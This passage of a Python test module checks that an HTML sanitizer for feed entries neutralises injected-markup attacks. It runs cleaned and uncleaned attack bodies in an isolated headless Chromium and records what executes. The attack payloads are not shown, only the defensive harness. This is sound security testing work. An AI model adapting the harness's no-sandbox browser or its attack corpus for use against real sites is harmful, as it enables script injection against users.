            self.shown.setdefault(number, set()).add(path)
        elif kind == "leak":
            self.ran.setdefault(number, set()).add(f"{destination} {path}")
        return ""

    def _page(self, number: int) -> str:
        bodies = self.pages.get(number, {})
        rules = {name: sorted(attributes | EVERYWHERE) for name, attributes in ALLOWED.items()}
        values = (json.dumps(value).replace("<", "\\u003c") for value in (rules, list(bodies.items()), _EVENTS))
        boxes = (f"<div id=parsed{at}>{html}</div><i id=after{at}></i>" for at, html in bodies.items())
        return f"{_HOOKS % list(bodies)}{_CHECKS % tuple(values)}<body>{''.join(boxes)}"


class _Server(BaseHTTPRequestHandler):
    """Answers a browser on this machine."""

    protocol_version = "HTTP/1.1"

    def __init__(self, visits: list[Visit], *arguments: object) -> None:
        self._visits = visits
        super().__init__(*arguments)  # type: ignore[arg-type]

    def do_GET(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        text = self._visits[-1].answer(unescape(self.path.partition("?")[0]), self.headers.get("Sec-Fetch-Dest", "?"))
        content = text.encode("utf-8", "surrogatepass")
        self.send_response(200 if text or self.path.startswith(("/seen", "/finished")) else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    do_POST = do_GET  # noqa: N815

    def log_message(self, *_: object) -> None:
        """Say nothing."""


class _Quiet(ThreadingHTTPServer):
    """A server that a browser may leave at any time."""

    daemon_threads = True
    request_queue_size = 64

    def handle_error(self, *_: object) -> None:
        """Say nothing of connections that the browser dropped."""


@contextlib.contextmanager
def _served(visits: list[Visit]) -> Iterator[str]:
    server = _Quiet(("127.0.0.1", 0), partial(_Server, visits))
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield f"127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def _browse(visit: Visit, visits: list[Visit], host: str, profile: Path) -> None:
    """Show all pages of a visit to a browser that cannot reach any other machine."""
    visits.append(visit)
    options = (
        "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking --disable-component-update"
        " --disable-sync --disable-extensions --mute-audio --autoplay-policy=no-user-gesture-required --remote-debugging-port=0"
    ).split()
    rules = "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1"
    command = [CHROMIUM, *options, rules, f"--user-data-dir={profile}", f"http://{host}/"]
    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as browser:
        try:
            assert visit.finished.wait(60), "the browser did not get through the pages"
        finally:
            browser.terminate()
            try:
                browser.wait(10)
            except subprocess.TimeoutExpired:
                browser.kill()


@dataclass(frozen=True, slots=True, kw_only=True)
class Browsed:
    """The attacks, and two visits: to the entries of the feeds, and to some of the bodies as they were."""

    attacks: dict[int, Attack]
    entries: dict[int, str]
    clean: Visit
    raw: Visit


@pytest.fixture(scope="module")
def browsed(tmp_path_factory: pytest.TempPathFactory) -> Browsed:
    """Build the sites, and show everything to the browser."""
    if not CHROMIUM:
        pytest.skip("no chromium, chromium-browser or google-chrome is installed")
    visits: list[Visit] = []
    with _served(visits) as host:
        attacks = list(_attacks(host))
        trimmed, whole = (_entries(tmp_path_factory.mktemp("site"), host, attacks, trim=trim) for trim in (True, False))
        entries = {number: html if html == whole[number] else html + whole[number] for number, html in trimmed.items()}
        numbers = sorted(entries)
        batches = [
            {at: entries[at] for at in numbers[start : start + BATCH]} for start in range(0, len(numbers), BATCH)
        ]
        clean = Visit(pages={next(iter(batch)): batch for batch in batches}, patience=20_000)
        _browse(clean, visits, host, tmp_path_factory.mktemp("profile"))
        chosen = [one for one in attacks if one.form in CONTROLS or one.number % 90 == 0]
        raw = Visit(pages={one.number: {one.number: one.body} for one in chosen}, patience=4_000)
        _browse(raw, visits, host, tmp_path_factory.mktemp("profile"))
    return Browsed(attacks={one.number: one for one in attacks}, entries=entries, clean=clean, raw=raw)


def test_no_entry_runs_anything_or_asks_for_more_than_media(browsed: Browsed) -> None:
    """Parsed and set by script, with every event triggered: nothing runs, leaves the page, or is not of the allow-list."""
    wrong = [(browsed.attacks[at].body, found, browsed.entries[at]) for at, found in browsed.clean.ran.items()]
    assert not wrong, "\n".join(map(repr, wrong[:20]))


def test_entries_show_their_pictures(browsed: Browsed) -> None:
    """The pages of the entries were looked at indeed: what may be asked for was."""
    assert len(browsed.entries) > 40
    assert len(browsed.clean.shown) > (50 if len(browsed.entries) > 200 else 5)


def _harm(visit: Visit) -> dict[int, set[str]]:
    """Return by page what ran there or was asked for."""
    passive = ("element", "attribute", "clobbered", "escaped", "lost", "title")
    found = {number: {what for what in seen if not what.startswith(passive)} for number, seen in visit.ran.items()}
    return {number: seen for number, seen in found.items() if seen}


def test_the_same_bodies_uncleaned_are_caught(browsed: Browsed) -> None:
    """The harness would notice: uncleaned, they run, ask, clobber and break out."""
    kinds = {re.split("%20| ", what)[0] for seen in browsed.raw.ran.values() for what in seen}
    assert {
        "ran",
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "clobbered",
        "escaped",
        "element",
        "attribute",
    } <= kinds
    assert len(_harm(browsed.raw)) > len(browsed.raw.pages) / 4


@pytest.mark.parametrize("form", CONTROLS)
def test_each_kind_is_caught_uncleaned(browsed: Browsed, form: str) -> None:
    """An attack of each kind, uncleaned, runs or asks in this browser."""
    number = next(one.number for one in browsed.attacks.values() if one.form == form)
    assert _harm(browsed.raw).get(number) or form in CLOBBERS, browsed.raw.ran.get(number)
